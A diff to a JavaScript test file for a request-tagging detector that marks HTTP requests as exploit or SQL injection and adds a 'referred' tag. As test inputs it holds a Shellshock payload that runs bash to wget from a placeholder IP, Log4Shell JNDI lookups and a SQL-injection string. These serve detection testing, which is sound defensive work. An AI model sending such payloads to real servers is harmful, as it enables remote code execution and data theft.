@@ -303,12 +303,17 @@ test("no mix of one and two layers of encoding hides it", () => {
 test("a payload is seen in the referrer and in the agent, with nothing else of them", () => {
   const payload = "() { :; }; /bin/bash -c 'wget http://192.0.2.9/x'";
   expect(tagsOf({ path: "/", userAgent: payload })).toEqual(["exploit"]);
-  expect(tagsOf({ path: "/", referrer: payload })).toEqual(["exploit"]);
+  expect(tagsOf({ path: "/", referrer: payload })).toEqual(["exploit", "referred"]);
+  expect(tagsOf({ path: "/", referrer: payload, userAgent: payload })).toEqual(["exploit"]);
   expect(tagsOf({ path: "/", referrer: "https://example.com/?x=%24%7Bjndi:ldap://x%7D" })).toEqual([
     "exploit",
+    "referred",
   ]);
   expect(tagsOf({ path: "/", userAgent: "${jndi:ldap://x}" })).toEqual(["exploit"]);
-  expect(tagsOf({ path: "/", referrer: "https://example.com/?id=1'+or+'1'='1" })).toEqual(["sql"]);
+  expect(tagsOf({ path: "/", referrer: "https://example.com/?id=1'+or+'1'='1" })).toEqual([
+    "sql",
+    "referred",
+  ]);
   expect(tagsOf({ path: "/", referrer: "https://example.com/.env/wp-login.php/c99.php" })).toEqual([]);
 });
 
